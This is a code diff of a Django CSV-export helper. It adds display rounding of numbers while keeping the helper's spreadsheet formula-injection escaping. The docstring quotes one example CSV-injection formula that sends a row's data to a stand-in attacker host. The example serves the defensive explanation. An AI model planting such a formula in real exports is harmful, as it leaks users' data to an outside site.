@@ -4,6 +4,9 @@ A spreadsheet reads a cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or
 (CSV injection: ``=HYPERLINK("http://attacker.example/?"&A1,"detail")`` in a pooled budget's name would send the
 row to the attacker's site when clicked). Such text cells are written with a leading single quote, as OWASP
 advises, so the spreadsheet shows them as text. Numbers stay numbers: -1.5 is written as -1.5.
+
+Numbers are written as the pages show them, to 2 decimal places (8.651599999999998 is written 8.65), except the
+statistics a page does not round that way (a trend's slope and p-value), which keep 6 significant figures.
 """
 
 import csv
@@ -14,6 +17,8 @@ from decimal import Decimal
 from django.http import HttpResponse
 
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+DECIMAL_PLACES = 2
+PRECISE_COLUMNS = frozenset({"trend_slope", "trend_p_value", "p_value", "slope"})
 # A plain number as the product writes one (ASCII digits, optional sign, decimals and exponent): never a formula.
 _PLAIN_NUMBER = re.compile(r"-?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][-+]?[0-9]+)?")
 
@@ -33,12 +38,25 @@ def safe_row(row: Iterable) -> list:
     return [safe_cell(value) for value in row]
 
 
+def as_shown(value: object, precise: bool = False) -> object:
+    """A float rounded as the pages show it (2 decimal places; 6 significant figures when `precise`)."""
+    if not isinstance(value, float) or value != value or value in (float("inf"), float("-inf")):
+        return value
+    rounded = float(f"{value:.6g}") if precise else round(value, DECIMAL_PLACES)
+    return rounded + 0.0  # no "-0.0"
+
+
 def csv_response(filename: str, rows: Iterable[Iterable], header: Iterable | None = None) -> HttpResponse:
-    """A CSV download (UTF-8, as an attachment named `filename`) of the header, if any, and the rows."""
+    """A CSV download (UTF-8, as an attachment named `filename`) of the header, if any, and the rows, numbers
+    rounded as on the page."""
     response = HttpResponse(content_type="text/csv; charset=utf-8")
     response["Content-Disposition"] = f'attachment; filename="{filename}"'
     writer = csv.writer(response)
+    precise: set[int] = set()
     if header is not None:
+        header = list(header)
+        precise = {i for i, name in enumerate(header) if str(name) in PRECISE_COLUMNS}
         writer.writerow(safe_row(header))
-    writer.writerows(safe_row(row) for row in rows)
+    for row in rows:
+        writer.writerow(safe_row(as_shown(value, i in precise) for i, value in enumerate(row)))
     return response
